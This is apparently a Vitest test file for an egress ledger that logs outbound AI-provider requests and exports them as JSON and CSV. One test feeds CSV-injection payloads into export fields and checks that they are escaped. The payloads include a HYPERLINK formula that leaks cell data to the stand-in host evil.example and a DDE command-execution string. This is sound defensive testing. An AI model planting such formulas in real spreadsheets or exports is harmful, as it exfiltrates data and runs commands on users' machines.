import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { openDatabase } from '../../src-main/core/db/openDatabase';
import { EgressLedger, startOfMonth } from '../../src-main/core/egress/EgressLedger';
import { useTempDir } from '../support/tempDir';

const tempDir = useTempDir('enclave-ledger-');
const open: { close(): void }[] = [];
afterEach(() => open.splice(0).forEach((db) => db.close()));

function ledger() {
  const db = openDatabase({ file: join(tempDir(), 'enclave.db') });
  open.push(db.$client);
  return new EgressLedger(db);
}

const entry = (provider: string, text: string) => ({
  provider,
  model: 'm-1',
  conversationId: null,
  source: 'chat' as const,
  privacyMode: 'redact' as const,
  payload: { model: 'm-1', messages: [{ role: 'user', content: text }] },
  entityCounts: { PERSON: 1 }
});

describe('egress ledger', () => {
  it('records before sending, completes with tokens and cost, and filters by provider, text and time', () => {
    const book = ledger();
    const a = book.record(entry('openai', 'hello [PERSON_1], 100% sure_thing'));
    expect(a.status).toBe('sent');
    book.finish(a.id, { status: 'completed', promptTokens: 10, completionTokens: 5, costUsd: 0.25 });
    const b = book.record(entry('anthropic', 'other text'));
    book.finish(b.id, { status: 'failed', error: 'HTTP 500' });

    expect(book.list().records.map((r) => r.provider)).toEqual(['anthropic', 'openai']);
    expect(book.list({ provider: 'openai' }).records[0]).toMatchObject({
      status: 'completed',
      promptTokens: 10,
      costUsd: 0.25,
      entityCounts: { PERSON: 1 }
    });
    // LIKE wildcards in the search are taken literally.
    expect(book.list({ text: '100%' }).total).toBe(1);
    expect(book.list({ text: '_thing' }).total).toBe(1);
    expect(book.list({ text: 'x_y' }).total).toBe(0);
    expect(book.list({ from: Date.now() + 60_000 }).total).toBe(0);
    expect(book.list({ limit: 1 }).records).toHaveLength(1);
    expect(book.list({ limit: 1 }).total).toBe(2);
    expect(book.spentUsd(startOfMonth(), 'openai')).toBeCloseTo(0.25);
    expect(book.spentUsd(startOfMonth())).toBeCloseTo(0.25);
  });

  it('exports JSON and CSV that parse back to the same records', () => {
    const book = ledger();
    const tricky = 'comma, "quotes", newline\nand ünïcödé';
    book.finish(book.record(entry('openai', tricky)).id, { status: 'completed', promptTokens: 3, completionTokens: 2, costUsd: 0.001 });

    const json = book.export('json');
    expect(json.fileName).toMatch(/^enclave-egress-.*\.json$/);
    const [fromJson] = JSON.parse(json.content);
    expect(fromJson.payload.messages[0].content).toBe(tricky);
    expect(new Date(fromJson.createdAt).getTime()).toBeGreaterThan(0);

    const csv = book.export('csv');
    expect(csv.mimeType).toBe('text/csv');
    const rows = parse(csv.content, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ provider: 'openai', status: 'completed', promptTokens: '3', costUsd: '0.001' });
    expect(JSON.parse(rows[0]!.payload).messages[0].content).toBe(tricky);
    expect(JSON.parse(rows[0]!.entityCounts)).toEqual({ PERSON: 1 });
  });

  it('exports CSV cells that a spreadsheet would run as formulas as text, with a leading apostrophe', () => {
    const book = ledger();
    const formulas = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\tTAB', '\r=CR'];
    for (const [i, formula] of formulas.entries()) {
      const id = book.record({ ...entry('openai', `message ${i}`), model: formula }).id;
      book.finish(id, { status: 'failed', error: formula });
    }
    const safe = book.record({ ...entry('openai', '=SUM(A1) inside the payload'), model: 'gpt-4o-mini' }).id;
    book.finish(safe, { status: 'completed', promptTokens: 1, completionTokens: 1, costUsd: 0.5 });

    const rows = parse(book.export('csv').content, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(formulas.length + 1);
    const byModel = new Map(rows.map((row) => [row.model!, row]));
    for (const formula of formulas) {
      const row = byModel.get(`'${formula}`);
      expect(row, formula).toBeDefined();
      expect(row!.error).toBe(`'${formula}`);
    }
    // Everything else is exact: the JSON payload (starts with {), plain names and numbers.
    const plain = byModel.get('gpt-4o-mini')!;
    expect(JSON.parse(plain.payload!).messages[0].content).toBe('=SUM(A1) inside the payload');
    expect(plain).toMatchObject({ provider: 'openai', costUsd: '0.5', promptTokens: '1' });
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
